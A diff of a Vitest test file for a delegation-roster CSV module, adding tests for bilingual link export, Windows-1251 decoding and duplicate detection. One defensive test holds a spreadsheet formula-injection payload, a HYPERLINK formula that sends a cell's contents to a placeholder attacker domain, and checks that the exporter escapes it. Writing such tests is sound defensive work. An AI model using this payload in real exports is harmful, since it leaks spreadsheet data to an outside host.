@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import Papa from 'papaparse';
 import { ROSTER_MAX_DELEGATIONS } from '@rostrum/core';
-import { idFromName, linksCsv, parseRosterCsv } from './roster-csv.js';
+import { decodeCsv, idFromName, likelyDuplicates, linksCsv, parseRosterCsv } from './roster-csv.js';
 
 describe('reading a delegation list from CSV', () => {
   it('reads id, English and Russian names by header, in any column order', () => {
@@ -56,10 +56,42 @@ describe('reading a delegation list from CSV', () => {
   });
 
   it('writes the links for a mail merge, quoting what needs it, and reads back the same', () => {
-    const csv = linksCsv([{ label: 'Malta, Customs', role: 'delegate', seat: 'head', delegationId: 'mt', url: 'https://r.example/m/x#t=a.b' }]);
-    expect(Papa.parse(csv).data).toEqual([
-      ['label', 'role', 'seat', 'delegation_id', 'url'],
-      ['Malta, Customs', 'delegate', 'head', 'mt', 'https://r.example/m/x#t=a.b'],
+    const csv = linksCsv([{ nameEn: 'Malta, Customs', nameRu: 'Таможня "Мальты"', role: 'delegate', seat: 'head', delegationId: 'mt', url: 'https://r.example/m/x#t=a.b' }]);
+    expect(csv.startsWith('\uFEFF')).toBe(true);
+    expect(Papa.parse(csv.slice(1)).data).toEqual([
+      ['name_en', 'name_ru', 'role', 'seat', 'delegation_id', 'url'],
+      ['Malta, Customs', 'Таможня "Мальты"', 'delegate', 'head', 'mt', 'https://r.example/m/x#t=a.b'],
+    ]);
+  });
+
+  it('never writes a name a spreadsheet would run as a formula', () => {
+    const evil = '=HYPERLINK("https://evil.example/?"&F2,"Open")';
+    const rows = Papa.parse<string[]>(linksCsv([{ nameEn: evil, nameRu: '+1', role: 'delegate', seat: 'head', delegationId: 'x', url: 'https://r.example/m/x#t=a' }]).slice(1)).data;
+    expect(rows[1]?.[0]).toBe(`'${evil}`);
+    expect(rows[1]?.[1]).toBe("'+1");
+  });
+
+  it('reads a file saved as UTF-8 or as Windows-1251 (a Russian Excel)', () => {
+    const utf8 = new TextEncoder().encode('id,name_en,name_ru\nmt,Malta,Мальта\n');
+    expect(decodeCsv(utf8)).toBe('id,name_en,name_ru\nmt,Malta,Мальта\n');
+    // "Мальта" in Windows-1251.
+    const cp1251 = new Uint8Array([...new TextEncoder().encode('id,name_en,name_ru\nmt,Malta,'), 0xcc, 0xe0, 0xeb, 0xfc, 0xf2, 0xe0, 0x0a]);
+    const out = parseRosterCsv(decodeCsv(cp1251));
+    expect(out.ok && out.delegations[0]?.name.ru).toBe('Мальта');
+  });
+
+  it('flags a new delegation whose name is already on the roster under another id', () => {
+    const roster = { delegationOrder: ['uz'], delegations: { uz: { name: { en: 'Uzbekistan Customs', ru: 'Таможня Узбекистана' } } } };
+    const candidates = [
+      { id: 'uzbekistan-customs', name: { en: 'uzbekistan  customs', ru: 'Другое' } },
+      { id: 'kz', name: { en: 'Kazakhstan', ru: 'Таможня Узбекистана' } },
+      { id: 'az', name: { en: 'Azerbaijan', ru: 'Азербайджан' } },
+      // Renamed, not added: the same id is no duplicate.
+      { id: 'uz', name: { en: 'Uzbekistan Customs', ru: 'Таможня Узбекистана' } },
+    ];
+    expect(likelyDuplicates(roster, candidates, ['uzbekistan-customs', 'kz', 'az'])).toEqual([
+      { id: 'uzbekistan-customs', existingId: 'uz' },
+      { id: 'kz', existingId: 'uz' },
     ]);
   });
 });
